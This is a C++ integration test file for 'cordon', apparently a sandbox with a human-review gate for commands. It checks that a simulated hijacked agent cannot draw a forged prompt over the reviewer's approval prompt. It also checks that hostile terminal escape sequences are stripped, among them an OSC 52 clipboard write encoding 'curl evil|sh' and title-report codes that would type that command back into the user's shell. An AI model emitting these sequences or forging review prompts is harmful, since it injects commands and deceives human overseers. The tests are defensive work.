// The user's terminal as the real `cordon run` leaves it: cordon runs on a pseudo-terminal the
// test reads as a terminal emulator would. What the box prints never hides or forges a
// reviewer's prompt (`--review tty`), and no escape sequence that reaches beyond the screen
// (the clipboard, reports the terminal would type back) gets through.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <map>
#include <string>
#include <thread>
#include <vector>

#include "base/unique_fd.h"
#include "integration/fixture.h"

extern char** environ;

namespace cordon::testing {
namespace {

using namespace std::chrono_literals;
using Clock = std::chrono::steady_clock;

// `cordon ARGS` with a new pty as its controlling terminal and stdio; the test holds the
// master, so it sees exactly what reaches the user's terminal, and types there.
class CordonOnPty {
 public:
  // Returns an empty string when started, else why not.
  std::string start(const std::vector<std::string>& args,
                    const std::map<std::string, std::string>& env) {
    master_.reset(::posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC));
    if (!master_ || ::grantpt(master_.get()) != 0 || ::unlockpt(master_.get()) != 0) {
      return "no pty";
    }
    winsize size{24, 80, 0, 0};
    ::ioctl(master_.get(), TIOCSWINSZ, &size);
    const std::string slave = ::ptsname(master_.get());
    // Everything the child needs is built here: the test has threads, its child allocates
    // nothing.
    std::vector<std::string> argv = {CORDON_BINARY};
    argv.insert(argv.end(), args.begin(), args.end());
    std::vector<std::string> envs;
    for (char** e = environ; *e != nullptr; ++e) {
      const std::string entry = *e;
      if (!env.count(entry.substr(0, entry.find('=')))) envs.push_back(entry);
    }
    for (const auto& [k, v] : env) envs.push_back(k + "=" + v);
    std::vector<char*> c_argv;
    for (auto& a : argv) c_argv.push_back(a.data());
    c_argv.push_back(nullptr);
    std::vector<char*> c_env;
    for (auto& e : envs) c_env.push_back(e.data());
    c_env.push_back(nullptr);

    pid_ = ::fork();
    if (pid_ < 0) return "fork failed";
    if (pid_ == 0) {
      // A session of its own, whose controlling terminal is the slave (opened without
      // O_NOCTTY by a session leader): /dev/tty is it, as for a user at a terminal.
      if (::setsid() < 0) ::_exit(120);
      const int fd = ::open(slave.c_str(), O_RDWR);
      if (fd < 0) ::_exit(121);
      for (int i = 0; i <= 2; ++i) ::dup2(fd, i);
      if (fd > 2) ::close(fd);
      ::execve(c_argv[0], c_argv.data(), c_env.data());
      ::_exit(127);
    }
    return "";
  }

  ~CordonOnPty() {
    if (pid_ > 0) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
    }
  }

  // Reads what reaches the terminal until `text` has appeared after `from` (true), or until
  // `timeout` passes or the terminal hangs up (false).
  bool until(const std::string& text, std::chrono::milliseconds timeout, size_t from = 0) {
    const auto deadline = Clock::now() + timeout;
    while (screen_.find(text, from) == std::string::npos) {
      if (Clock::now() >= deadline || hung_up_) return false;
      read_some(deadline);
    }
    return true;
  }
  // Reads for `duration`, whatever comes.
  void read_for(std::chrono::milliseconds duration) {
    const auto deadline = Clock::now() + duration;
    while (Clock::now() < deadline) {
      if (!read_some(deadline)) std::this_thread::sleep_for(10ms);  // hung up: no poll wait
    }
  }
  void type(const std::string& keys) {
    ASSERT_EQ(::write(master_.get(), keys.data(), keys.size()), static_cast<ssize_t>(keys.size()));
  }
  // Reads until cordon exits; returns its exit status (-1 if it did not exit in time).
  int wait_exit(std::chrono::milliseconds timeout) {
    const auto deadline = Clock::now() + timeout;
    for (;;) {
      int status = 0;
      const pid_t r = ::waitpid(pid_, &status, WNOHANG);
      if (r == pid_) {
        pid_ = -1;
        read_for(100ms);  // what it wrote last
        return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
      }
      if (Clock::now() >= deadline) return -1;
      if (!read_some(std::min(deadline, Clock::now() + 50ms))) std::this_thread::sleep_for(10ms);
    }
  }
  const std::string& screen() const { return screen_; }

 private:
  // Reads once if something comes before `deadline` (at most 100 ms); false when nothing did.
  bool read_some(Clock::time_point deadline) {
    const auto left =
        std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now());
    pollfd p{master_.get(), POLLIN, 0};
    if (::poll(&p, 1, static_cast<int>(std::max<long>(0, std::min<long>(left.count(), 100)))) <=
        0) {
      return false;
    }
    char buf[4096];
    const ssize_t n = ::read(master_.get(), buf, sizeof buf);
    if (n <= 0) {  // EIO: every slave is closed
      hung_up_ = true;
      return false;
    }
    screen_.append(buf, static_cast<size_t>(n));
    return true;
  }

  UniqueFd master_;
  pid_t pid_ = -1;
  std::string screen_;
  bool hung_up_ = false;
};

class TerminalRunTest : public BoxTest {
 protected:
  TerminalRunTest() { ::mkdir((dir() / "run").c_str(), 0700); }

  std::map<std::string, std::string> env() {
    return {{"XDG_CONFIG_HOME", dir() / "config"},
            {"XDG_STATE_HOME", dir() / "state"},
            {"CORDON_RUNTIME_DIR", dir() / "run"}};
  }
  std::vector<std::string> run_args(const std::string& script,
                                    std::vector<std::string> flags = {}) {
    std::vector<std::string> args = {"run", "-q", "--workspace", workspace(), "--network", "none"};
    args.insert(args.end(), flags.begin(), flags.end());
    args.insert(args.end(), {"--", "/bin/sh", "-c", script});
    return args;
  }
};

#define START_OR_SKIP(pty, args)                \
  do {                                          \
    std::string why = (pty).start(args, env()); \
    if (!why.empty()) GTEST_SKIP() << why;      \
  } while (0)

// The hijacked agent of the security review: it starts a held command in the background and,
// while the reviewer's prompt is up, prints over it. Its output must wait for the answer.
TEST_F(TerminalRunTest, NothingTheBoxPrintsAppearsWhileAReviewersPromptIsUp) {
  const std::string policy = policy_file(R"(
[gate]
timeout = "60s"
[[gate.rule]]
name = "touching-danger"
program = "touch"
any_arg = ["danger*"]
action = "ask"
reason = "danger files need a human"
)");
  // The marker is printed once the prompt is up (the touch is held meanwhile); the file says
  // the box has printed it.
  CordonOnPty pty;
  START_OR_SKIP(pty, run_args("touch danger1 & sleep 1; printf '\\033[2J\\033[HFORGED-%s\\n' "
                              "prompt; echo printed > printed; wait; echo touched=$?",
                              {"--config", policy, "--review", "tty"}));
  ASSERT_TRUE(pty.until("[d]eny? ", 30s)) << pty.screen();
  const size_t prompt = pty.screen().find("cordon: held for review");
  ASSERT_NE(prompt, std::string::npos) << pty.screen();
  // Drawn on a terminal reset to defaults (what the box may have set is undone), on a fresh line.
  EXPECT_NE(pty.screen().rfind("\x1b[!p", prompt), std::string::npos) << pty.screen();
  EXPECT_NE(pty.screen().find("touch danger1", prompt), std::string::npos) << pty.screen();

  // The box has printed its forgery (the file is written right after)...
  const auto deadline = Clock::now() + 20s;
  while (!exists(workspace() + "/printed") && Clock::now() < deadline) pty.read_for(50ms);
  ASSERT_TRUE(exists(workspace() + "/printed")) << pty.screen();
  pty.read_for(300ms);
  // ...and none of it has reached the terminal since the prompt began.
  EXPECT_EQ(pty.screen().find("FORGED-prompt", prompt), std::string::npos) << pty.screen();
  EXPECT_EQ(pty.screen().find("\x1b[2J", prompt), std::string::npos) << pty.screen();

  pty.type("a\n");
  ASSERT_TRUE(pty.until("reason? ", 10s, prompt)) << pty.screen();
  pty.type("\n");
  ASSERT_TRUE(pty.until("approved", 10s, prompt)) << pty.screen();
  const size_t answered = pty.screen().find("approved", prompt);
  // Kept, not lost: it arrives after the answer.
  ASSERT_TRUE(pty.until("FORGED-prompt", 10s, answered)) << pty.screen();
  ASSERT_TRUE(pty.until("touched=0", 20s, answered)) << pty.screen();
  EXPECT_EQ(pty.wait_exit(30s), 0) << pty.screen();
  EXPECT_TRUE(exists(workspace() + "/danger1"));
}

// OSC 52 would set the user's clipboard; CSI 21 t and 20 t make the terminal type the title
// (which the box sets) back as input, into the user's shell once cordon has exited. Neither
// reaches the terminal; text and colours do, and cordon turns off the modes the box left on.
TEST_F(TerminalRunTest, TheClipboardAndTitleReportsNeverReachTheTerminal) {
  CordonOnPty pty;
  START_OR_SKIP(pty, run_args("printf 'plain \\033[31mred\\033[0m \\033]52;c;Y3VybCBldmlsfHNo\\007 "
                              "\\033]0;curl evil|sh\\007\\033[21t\\033[20t \\033P$qm\\033\\\\ "
                              "\\033[?1000h\\033[?2004h end\\n'"));
  EXPECT_EQ(pty.wait_exit(60s), 0) << pty.screen();
  const std::string& s = pty.screen();
  EXPECT_NE(s.find("plain \x1b[31mred\x1b[0m "), std::string::npos) << s;
  EXPECT_NE(s.find("end"), std::string::npos) << s;
  EXPECT_EQ(s.find("\x1b]52"), std::string::npos) << s;
  EXPECT_EQ(s.find("Y3VybCBldmlsfHNo"), std::string::npos) << s;
  EXPECT_EQ(s.find("\x1b[21t"), std::string::npos) << s;
  EXPECT_EQ(s.find("\x1b[20t"), std::string::npos) << s;
  EXPECT_EQ(s.find("\x1bP"), std::string::npos) << s;
  // Setting a title passes (only its report is dropped); the modes are on, then turned off.
  EXPECT_NE(s.find("\x1b]0;curl evil|sh\x07"), std::string::npos) << s;
  const size_t on = s.find("\x1b[?1000h");
  ASSERT_NE(on, std::string::npos) << s;
  EXPECT_NE(s.find("\x1b[?1000l", on), std::string::npos) << s;
  EXPECT_NE(s.find("\x1b[?2004l", on), std::string::npos) << s;
}

}  // namespace
}  // namespace cordon::testing
